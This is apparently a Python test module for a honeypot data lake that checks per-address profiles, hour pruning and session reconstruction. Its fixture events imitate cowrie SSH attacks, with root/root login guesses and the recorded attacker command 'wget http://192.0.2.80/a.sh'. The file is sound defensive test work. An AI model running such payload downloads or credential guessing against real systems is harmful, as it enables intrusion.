"""One page on an address: its numbers are those of a plain recount over the published lines, and
what the daily tables rule out never holds an event of it."""

import itertools
import json
from collections import Counter
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from stingar_dagster.errors import UsageError
from stingar_dagster.lake.lake import Lake
from stingar_dagster.lake.reader import sessions as rebuilding
from stingar_dagster.lake.reader.hours import published_slices
from stingar_dagster.lake.reader.presence import slices_with
from stingar_dagster.lake.reader.profile import Profile, profile
from stingar_dagster.lake.reader.query import parse_source
from stingar_dagster.streams import STINGAR
from stingar_dagster.streams.stingar_recount import RECOUNTS
from stingar_dagster_tests.support import HOUR, MINUTE, RecordingStore, Site, event, on_disk

DAY = timedelta(days=1)
FIRST = datetime(2026, 11, 2, tzinfo=UTC)
MINE, OTHER, SIX = "203.0.113.9", "203.0.113.10", "2001:db8::7"
LOGIN = "SSH login attempted on cowrie honeypot"


def visit(start: datetime, port: int, src_ip: str = MINE, **fields: object) -> list[bytes]:
    """A session as honeypots send it: everything stamped when it closes."""
    where: dict[str, Any] = {"src_ip": src_ip, "src_port": port, "app": "cowrie", **fields}
    wget = "wget http://192.0.2.80/a.sh"
    return [
        event(start, signature="Connection to Honeypot", ssh_version="b'SSH-2.0-Go'", **where),
        event(start, signature=LOGIN, ssh_username="root", ssh_password="root", **where),
        event(start, signature=LOGIN, ssh_username="root", ssh_password="1\x1b[2J", **where),
        event(
            start,
            signature="SSH login successful on cowrie honeypot",
            loggedin=["root", "1"],
            **where,
        ),
        event(start, signature="command attempted on cowrie honeypot", command=wget, **where),
        event(
            start, signature="unknown command attempted on cowrie honeypot", command=wget, **where
        ),
    ]


def traffic() -> list[bytes]:
    """Four days: seen on the first and the last; others in some hours of the first two."""
    everyone = [
        event(FIRST + hour * HOUR, src_ip=OTHER, user_agent="zgrab")
        for hour in (*range(3, 11), *range(24, 30))
    ]
    return [
        *everyone,
        *visit(FIRST + 5 * HOUR, 40001),
        *visit(FIRST + 5 * HOUR + 59 * MINUTE, 40002, sensor="lab-2", dest_port=2222),
        *visit(FIRST + 6 * HOUR + 2 * MINUTE, 40002, sensor="lab-2", dest_port=2222),
        *visit(FIRST + 3 * DAY + 23 * HOUR, 40001),
        *visit(FIRST + 7 * HOUR, 50000, src_ip=SIX),
        event(FIRST + 8 * HOUR, src_ip="2001:DB8:0::7", user_agent="curl\u202e"),
    ]


def filled(site: Site) -> Site:
    site.put(traffic(), start=FIRST + 4 * DAY)
    site.run()
    return site


def of(site: Site, source: str, **more: Any) -> Profile:
    return profile(site.pipeline().lake, source, **more)


def recount(table: str, events: list[dict[str, Any]]) -> list[dict[str, Any]]:
    counter = RECOUNTS[table]()
    for row in events:
        counter.add(row)
    return counter.rows(0)


def alike(frame: pl.DataFrame) -> list[str]:
    return said([{k: v for k, v in row.items() if v is not None} for row in frame.to_dicts()])


def said(rows: list[dict[str, Any]]) -> list[str]:
    return sorted(json.dumps(row, sort_keys=True) for row in rows)


@pytest.fixture(scope="module")
def known(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """On a local disk; tests only read it."""
    return filled(Site.at(tmp_path_factory.mktemp("known")))


def test_its_numbers_are_those_of_a_plain_recount(site: Site) -> None:
    filled(site)
    check_numbers(site, MINE, [MINE])
    check_numbers(site, "203.0.113.0/24", [MINE, OTHER])
    check_numbers(site, SIX, [SIX, "2001:DB8:0::7"])
    check_numbers(site, "198.51.100.1", [])


def check_numbers(site: Site, source: str, addresses: list[str]) -> None:
    events = [row for row in site.events() if row["src_ip"] in addresses]
    told = of(site, source)
    assert told.events == len(events)
    stamps = sorted(row["@timestamp"] for row in events)
    seen = [None if t is None else t.isoformat(timespec="milliseconds")[:23] + "Z"
            for t in (told.first_seen, told.last_seen)]  # fmt: skip
    assert seen == ([stamps[0], stamps[-1]] if stamps else [None, None])
    for name in (
        "sources", "sensors", "ports", "credentials", "commands", "downloads", "fingerprints",
    ):  # fmt: skip
        assert alike(getattr(told, name)) == said(recount(f"daily_{name}", events)), name
    for frame, column in (
        (told.apps, "app"), (told.kinds, "event_kind"), (told.user_agents, "user_agent"),
    ):  # fmt: skip
        assert dict(frame.iter_rows()) == Counter(row[column] for row in events if column in row)
    assert told.sessions["events"].sum() == len(events)
    assert json.loads(json.dumps(told.to_dict()))["events"] == len(events)


def test_days_without_events_stand_between_the_others(known: Site) -> None:
    told = of(known, MINE).days
    assert told["date"].to_list() == ["2026-11-02", "2026-11-03", "2026-11-04", "2026-11-05"]
    assert told["events"].to_list() == [18, 0, 0, 6]
    # On the third day nothing at all was published: nobody knows.
    assert told["published_hours"].to_list() == [8, 6, 0, 1]


def test_a_range_narrows_it(known: Site) -> None:
    assert of(known, MINE, until=FIRST + 6 * HOUR).events == 12
    assert of(known, MINE, since=FIRST + DAY).events == 6
    nothing = of(known, MINE, since=FIRST + 30 * DAY)
    assert (nothing.events, nothing.coverage.hours, nothing.coverage.last) == (0, 0, None)


def test_it_says_where_was_looked(known: Site) -> None:
    coverage = of(known, MINE).coverage
    assert (coverage.hours, coverage.read) == (15, 3)
    assert (coverage.first, coverage.last) == (FIRST + 3 * HOUR, FIRST + 3 * DAY + 23 * HOUR)


def test_an_empty_lake_is_said_to_be_empty(site: Site) -> None:
    told = of(site, MINE)
    assert (told.events, told.coverage.hours, len(told.days), len(told.sessions)) == (0, 0, 0, 0)
    with pytest.raises(UsageError, match="is not an address or a network"):
        of(site, "300.1.1.1")


def test_more_than_can_be_held_is_one_line_that_says_what_to_do(
    known: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    """However the events are cut into batches."""
    monkeypatch.setattr("stingar_dagster.lake.reader.profile._BATCH", 4)
    whole = of(known, "0.0.0.0/0")
    monkeypatch.setattr("stingar_dagster.lake.reader.profile._MOST_BYTES", 2_000)
    with pytest.raises(UsageError, match=r"0\.0\.0\.0/0: .* until 2026-11-0.* --since") as refusal:
        of(known, "0.0.0.0/0")
    assert "\n" not in str(refusal.value)
    assert whole.events > of(known, MINE, until=FIRST + 6 * HOUR).events == 12


# ---- what the daily tables rule out


def possible(lake: Lake, source: str) -> list[datetime]:
    return [hour.start for hour in slices_with(lake, published_slices(lake), parse_source(source))]


def holding(site: Site, source: str) -> set[datetime]:
    found = [row for row in site.events() if row["src_ip"] == source]
    return {datetime.fromisoformat(row["@timestamp"][:13] + ":00+00:00") for row in found}


def test_only_hours_in_which_it_can_be_are_read(known: Site) -> None:
    lake = known.pipeline().lake
    on_the_first_days = [hour for hour in possible(lake, MINE) if hour < FIRST + 2 * DAY]
    assert on_the_first_days == [FIRST + 5 * HOUR, FIRST + 6 * HOUR]
    assert possible(lake, SIX)[:2] == [FIRST + 7 * HOUR, FIRST + 8 * HOUR]
    assert len(possible(lake, OTHER)) == 15


def test_an_hour_is_not_read_if_it_is_ruled_out(known: Site) -> None:
    store = RecordingStore(Path(known.lake))
    profile(Lake(store, STINGAR), MINE)
    read = [path for path in store.asked if path.endswith("events.json")]
    assert len(read) == 3


@on_disk
@pytest.mark.parametrize("rolled", [False, True])
def test_a_late_event_is_seen_before_its_day_is_rolled_up(site: Site, rolled: bool) -> None:
    pipeline = filled(site).pipeline()
    late = FIRST + 10 * HOUR
    site.put([event(late, src_ip=MINE)], start=FIRST + 5 * DAY, first=1000)
    pipeline.land_hour(FIRST + 5 * DAY)
    pipeline.publish_hour(late)
    if rolled:
        pipeline.roll_day(FIRST)
    assert late in possible(pipeline.lake, MINE)
    assert of(site, MINE).events == 25
    # The other hours of the day are still told by the table.
    assert FIRST + 3 * HOUR not in possible(pipeline.lake, MINE)


@on_disk
def test_an_hour_whose_record_is_behind_its_events_is_read(site: Site) -> None:
    """As after a crash between the two writes."""
    pipeline = filled(site).pipeline()
    late = FIRST + 10 * HOUR
    record = Path(site.lake) / pipeline.lake.layout.hour_record("events", late)
    before = record.read_bytes()
    site.put([event(late, src_ip=MINE)], start=FIRST + 5 * DAY, first=1000)
    pipeline.land_hour(FIRST + 5 * DAY)
    pipeline.publish_hour(late)
    record.write_bytes(before)
    assert of(site, MINE).events == 25


@on_disk
@pytest.mark.parametrize("folder", ["daily/daily_sources", "state/daily", "state/events"])
def test_without_tables_or_records_everything_is_read(site: Site, folder: str) -> None:
    lake = filled(site).pipeline().lake
    for file in (Path(site.lake) / "stingar" / folder).rglob("*.json"):
        file.unlink()
    assert len(possible(lake, MINE)) == 15
    assert of(site, MINE).events == 24


@settings(max_examples=6, deadline=None)
@given(
    st.lists(
        st.tuples(st.integers(0, 11), st.sampled_from([MINE, OTHER, SIX])), min_size=6, max_size=30
    ),
    st.lists(st.tuples(st.integers(0, 11), st.sampled_from([MINE, SIX])), max_size=2),
    st.booleans(),
)
def test_no_hour_that_holds_it_is_ever_ruled_out(
    tmp_path_factory: pytest.TempPathFactory,
    seen: list[tuple[int, str]],
    late: list[tuple[int, str]],
    published: bool,
) -> None:
    site = Site.at(tmp_path_factory.mktemp("ruled"))
    filling = [event(FIRST + hour * HOUR) for hour in range(0, 12, 2)]
    bodies = [event(FIRST + hour * HOUR, src_ip=source) for hour, source in seen]
    site.put([*filling, *bodies], start=FIRST + 2 * DAY)
    site.run()
    pipeline = site.pipeline()
    if late:
        more = [event(FIRST + hour * HOUR, src_ip=source) for hour, source in late]
        site.put(more, start=FIRST + 3 * DAY, first=1000)
        pipeline.land_hour(FIRST + 3 * DAY)
        for hour, _ in late if published else late[:1]:
            pipeline.publish_hour(FIRST + hour * HOUR)
    for source in (MINE, OTHER, SIX):
        assert holding(site, source) <= set(possible(pipeline.lake, source))


# ---- sessions


def test_sessions_are_told_by_their_four_marks_and_a_gap(known: Site) -> None:
    told = of(known, MINE).sessions
    assert told.select("src_port", "dest_port", "sensor", "start", "end").rows() == [
        (40001, 22, "lab-1", "2026-11-02T05:00:00.000Z", "2026-11-02T05:00:00.000Z"),
        # Three minutes apart, and across the hour: one.
        (40002, 2222, "lab-2", "2026-11-02T05:59:00.000Z", "2026-11-02T06:02:00.000Z"),
        (40001, 22, "lab-1", "2026-11-05T23:00:00.000Z", "2026-11-05T23:00:00.000Z"),
    ]
    first = told.row(0, named=True)
    assert first["events"] == 6
    assert (first["login_attempts"], first["login_successes"]) == (3, 1)
    assert (first["username"], first["password"]) == ("root", "1")
    assert [pair["password"] for pair in first["credentials"]] == ["root", "1\x1b[2J", "1"]
    # The honeypot sends a command that failed twice.
    assert first["commands"] == ["wget http://192.0.2.80/a.sh"]
    assert first["urls"] == ["http://192.0.2.80/a.sh"]
    assert first["ssh_version"] == "SSH-2.0-Go"


EVENTS = st.lists(
    st.tuples(
        st.integers(0, 90), st.sampled_from([1, 2, None]), st.sampled_from(["id", "ls", None])
    ),
    max_size=12,
)


@settings(max_examples=80, deadline=None)
@given(EVENTS, st.lists(st.integers(0, 12), max_size=3))
def test_sessions_come_out_alike_however_their_events_are_cut(
    events: list[tuple[int, int | None, str | None]], cuts: list[int]
) -> None:
    events = sorted(events, key=lambda item: item[0])
    rows = [
        {
            "@timestamp": f"{FIRST + minute * MINUTE:%Y-%m-%dT%H:%M:%S}.000Z",
            "sensor": "lab-1", "src_ip": MINE, "src_port": port, "dest_port": 22,
            "event_kind": "command", "command": command,
        }
        for minute, port, command in events
    ]  # fmt: skip
    schema = {name: STINGAR.schema[name] for name in rebuilding.NEEDED}
    frame = pl.DataFrame(rows, schema=schema)
    bounds = sorted({0, *cuts, len(frame)})
    pieces = [rebuilding.parts(frame[start:end]) for start, end in itertools.pairwise(bounds)]
    whole = rebuilding.sessions(frame.lazy()).collect()
    assert rebuilding.joined(pieces or [rebuilding.parts(frame)]).equals(whole)
    assert dict(whole.schema) == rebuilding.SCHEMA
    assert whole.height == plainly_counted(events)


def plainly_counted(events: list[tuple[int, int | None, str | None]]) -> int:
    last: dict[int | None, int] = {}
    count = 0
    for minute, port, _ in events:
        count += port not in last or minute - last[port] > 10
        last[port] = minute
    return count
